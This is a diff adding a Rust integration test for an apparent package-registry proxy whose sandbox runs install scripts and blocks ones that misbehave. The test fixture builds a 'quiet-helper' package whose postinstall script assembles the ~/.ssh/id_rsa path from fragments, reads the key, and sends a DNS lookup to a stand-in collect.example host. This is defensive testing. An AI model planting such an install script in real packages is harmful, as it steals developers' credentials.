@@ -379,3 +379,65 @@ async fn a_dependency_the_registry_does_not_have_is_a_risk() {
         200
     );
 }
+
+/// With the sandbox on, a version whose install script looks harmless on the page
+/// but, run, reads the canary SSH key and looks up a collector is refused for what
+/// it did (`runtime-*` codes in the 403); an ordinary install script is served.
+/// Uses the real bubblewrap and strace `scripts/test` installs.
+#[tokio::test]
+async fn install_scripts_run_in_the_sandbox_decide_too() {
+    let sandbox = airlock_sandbox::Config {
+        time_limit: Duration::from_secs(20),
+        ..airlock_sandbox::Config::default()
+    };
+    assert!(
+        matches!(
+            airlock_sandbox::probe(&sandbox),
+            airlock_sandbox::Availability::Ready { .. }
+        ),
+        "the sandbox must be available where the tests run"
+    );
+    let config = ServerConfig {
+        sandbox: Some(sandbox),
+        ..ServerConfig::default()
+    };
+    let harness = Harness::with_config(config, Duration::from_secs(30)).await;
+    let old = airlock_test::days_ago(30);
+    // The key path is assembled from pieces at run time: nothing on the page says
+    // `.ssh` or names a host.
+    let thief = airlock_test::PackageBuilder::new("quiet-helper", "1.0.0")
+        .script("postinstall", "node build.js")
+        .file(
+            "build.js",
+            "const p = require('path'), f = require('fs');\n\
+             const parts = [process.env.HOME, ['.', 's', 's', 'h'].join(''), 'id_' + 'rsa'];\n\
+             let k = ''; try { k = f.readFileSync(p.join(...parts), 'utf8'); } catch (e) {}\n\
+             require('dns').resolve4(['k', k.length, 'collect', 'example'].join('.'), () => {});\n\
+             setTimeout(() => {}, 200);\n",
+        )
+        .published(old)
+        .build();
+    let builder = airlock_test::PackageBuilder::new("plain-builder", "1.0.0")
+        .script("install", "node install.js")
+        .file(
+            "install.js",
+            "require('fs').writeFileSync(require('path').join(__dirname, 'built.txt'), 'ok');\n",
+        )
+        .published(old)
+        .build();
+    harness.registry.publish(thief);
+    harness.registry.publish(builder);
+
+    let answer = harness.get("/quiet-helper/-/quiet-helper-1.0.0.tgz").await;
+    assert_eq!(answer.status, 403, "{}", answer.error());
+    let error = answer.error();
+    for code in ["runtime-credential-read", "runtime-network"] {
+        assert!(error.contains(code), "{code} missing from: {error}");
+    }
+    assert!(error.contains(".ssh/id_rsa"), "{error}");
+
+    let answer = harness
+        .get("/plain-builder/-/plain-builder-1.0.0.tgz")
+        .await;
+    assert_eq!(answer.status, 200, "{}", answer.error());
+}
